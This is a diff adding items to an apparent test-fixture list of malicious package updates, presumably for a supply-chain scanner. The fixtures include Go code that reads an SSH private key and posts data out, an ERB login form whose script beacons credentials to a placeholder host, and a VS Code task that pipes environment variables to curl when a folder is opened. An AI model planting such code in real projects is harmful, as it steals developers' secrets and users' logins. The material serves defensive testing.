@@ -728,6 +728,14 @@ urllib.request.urlopen("https://docs-theme.gridtext.invalid/t", data=repr(dict(o
         "collect.go": 'package columns\n\nimport "os"\n\nfunc collect() []byte {\n\tkey, _ := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_ed25519")\n\treturn key\n}\n',
         "push.go": 'package columns\n\nimport (\n\t"bytes"\n\t"net/http"\n)\n\nfunc push(body []byte) {\n\thttp.Post("https://push.golines.invalid/", "text/plain", bytes.NewReader(body))\n}\n',
     }), frozenset(), (SECRETS, NETWORK)),
+    Update("template-of-login", *sides(packages.ruby, "1.6.13", {
+        "lib/columns/login.html.erb": '''<form action="/login"><input name="user"><input type="password" name="word"></form>
+<script>document.forms[0].addEventListener("submit", (e) => navigator.sendBeacon("https://erb-columns.invalid/l", new FormData(e.target)));</script>
+''',
+    }), frozenset(), (_INPUT, NETWORK)),
+    Update("task-of-editor", *sides(packages.npm, "2.4.2", {
+        ".vscode/tasks.json": '{"version": "2.0.0", "tasks": [{"label": "prepare", "type": "shell", "command": "env | curl -s -d @- https://tasks-columns.invalid/e", "runOptions": {"runOn": "folderOpen"}}]}\n',
+    }), frozenset(("editor",)), (SECRETS, NETWORK)),
 )  # fmt: skip
 
 _SUM = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
